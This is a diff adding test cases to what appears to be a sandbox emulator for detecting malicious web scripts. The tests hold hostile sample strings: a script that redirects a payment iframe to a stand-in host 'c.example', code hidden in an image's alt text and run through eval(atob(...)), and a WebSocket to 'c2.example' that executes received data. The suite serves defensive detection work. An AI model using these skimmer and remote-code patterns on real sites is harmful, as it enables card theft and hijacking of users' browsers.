@@ -128,6 +128,29 @@ describe('emulator: the decoy world', () => {
     );
   });
 
+  it('hides its marks on imports', async () => {
+    assert.equal(
+      await seen("(function f() { return import('./x') }).toString()"),
+      "function f() { return import('./x') }",
+    );
+  });
+
+  it('shows the frame of a payment service to who looks for one', async () => {
+    const trace = await run(
+      "setInterval(function () { var f = document.querySelector('iframe[src*=hosted]'); if (f) f.src = 'https://c.example/' }, 100)",
+    );
+    assert.deepEqual(trace.worlds, ['checkout', 'lenient']);
+    assert.equal(requestsOf(trace)[0]?.host, 'c.example');
+    assert.equal(eventsOf(trace, 'form-action').length > 0, true);
+  });
+
+  it('finds code in the description of a picture', async () => {
+    for (const take of ["split(':')[1]", 'slice(4)', "replace('x', '')"]) {
+      const trace = await run(`eval(atob(document.querySelector('img').alt.${take}))`);
+      assert.equal(summarise(trace).runsRemoteCode, true, take);
+    }
+  });
+
   it('marks code that came from a server', async () => {
     const trace = await run(
       "var w = new WebSocket('wss://c2.example/'); w.onmessage = function (e) { Function(e.data)() }",
